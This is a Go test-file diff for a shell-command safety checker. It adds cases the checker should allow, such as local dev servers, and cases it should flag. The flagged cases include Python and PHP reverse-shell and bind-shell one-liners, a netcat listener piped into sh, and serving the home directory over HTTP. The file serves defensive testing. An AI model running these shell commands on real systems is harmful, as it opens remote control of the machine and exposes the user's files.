@@ -26,6 +26,9 @@ func TestQuiet(t *testing.T) {
 		{"what a generator made is made again", "rails destroy controller Users"},
 		{"a program's own libraries", "LD_LIBRARY_PATH=./lib ./app; export LD_LIBRARY_PATH=/usr/local/cuda/lib64:$LD_LIBRARY_PATH"},
 		{"the root cannot be moved", `mv "$dir/$1" "$dir/$1.old"`},
+		{"the site is looked at while it is written", "python3 -m http.server 8000 --directory dist & php -S 0.0.0.0:8000 -t public"},
+		{"a server that is being written", "python3 -c 'from http.server import *; HTTPServer((\"\", 8000), SimpleHTTPRequestHandler).serve_forever()'"},
+		{"a program that talks, and starts others", "python3 -c 'import subprocess, urllib.request as u; u.urlopen(\"http://localhost:8000/\"); subprocess.run([\"ls\"])'"},
 		{"directories are not copied without -r", "cp ~ /home /tmp/x"},
 	} {
 		d := check(p, test.command)
@@ -44,6 +47,12 @@ func TestQuietNoMore(t *testing.T) {
 		{"what is moved is gone where it was", `mv "/usr/$x" /tmp/y`},
 		{"all that lies in the root", `mv "$dir"/* /tmp/y`},
 		{"a library that is loaded into everything", "LD_PRELOAD=./x.so ls"},
+		{"everything of the user is shown", "cd && python3 -m http.server 8000"},
+		{"a shell at the other end of a connection", `python3 -c 'import socket,os,subprocess as p;s=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0);p.call(["/bin/sh","-i"])'`},
+		{"a shell for who connects", `python3 -c 'import socket,os,pty;s=socket.socket();s.bind(("",1));c,_=s.accept();os.dup2(c.fileno(),0);pty.spawn("sh")'`},
+		{"a shell at a descriptor", `php -r '$s=fsockopen("h",1);exec("sh -i <&3 >&3 2>&3");'`},
+		{"what comes over a port is code", "nc -l 127.0.0.1 8000 | sh"},
+		{"a port for everybody, of which nothing else is known", "nc -l 8000"},
 		{"the caches as a whole", "rm -rf /var/cache"},
 		{"what the packages are", "rm -rf /var/lib/dpkg/info/*"},
 	} {
